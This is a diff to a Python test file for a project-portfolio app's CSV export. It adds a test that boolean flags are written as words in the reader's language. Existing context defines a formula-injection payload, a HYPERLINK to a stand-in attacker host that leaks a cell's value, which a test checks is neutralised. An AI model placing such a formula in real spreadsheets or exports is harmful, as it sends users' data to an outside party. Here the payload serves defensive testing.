@@ -7,6 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from pmo.portfolio import services
+from pmo.portfolio.extensions import registry
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -43,3 +44,20 @@ def test_csv_export_neutralises_a_formula_like_name(client, users, hostile):
     row = next(r for r in rows[1:] if r[0] == "INJ1")
     assert row[header.index("Name")] == "'" + ATTACK
     assert row[header.index("Slip (days)")] == "-10"
+
+
+@pytest.mark.parametrize(("language", "no"), [("en", "no"), ("zh-hans", "否")])
+def test_csv_export_writes_flags_as_words_in_the_readers_language(
+    client, users, hostile, language, no
+):
+    users["exec"].language = language
+    users["exec"].save()
+    client.force_login(users["exec"])
+    response = client.get("/projects/export.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(r for r in rows[1:] if r[0] == "INJ1")
+    assert "True" not in row and "False" not in row
+    # the last two columns before the extensions': decision needed (no), report missing (yes)
+    last = len(rows[0]) - len(registry.export_columns)
+    yes = "是" if language == "zh-hans" else "yes"
+    assert row[last - 2 : last] == [no, yes]
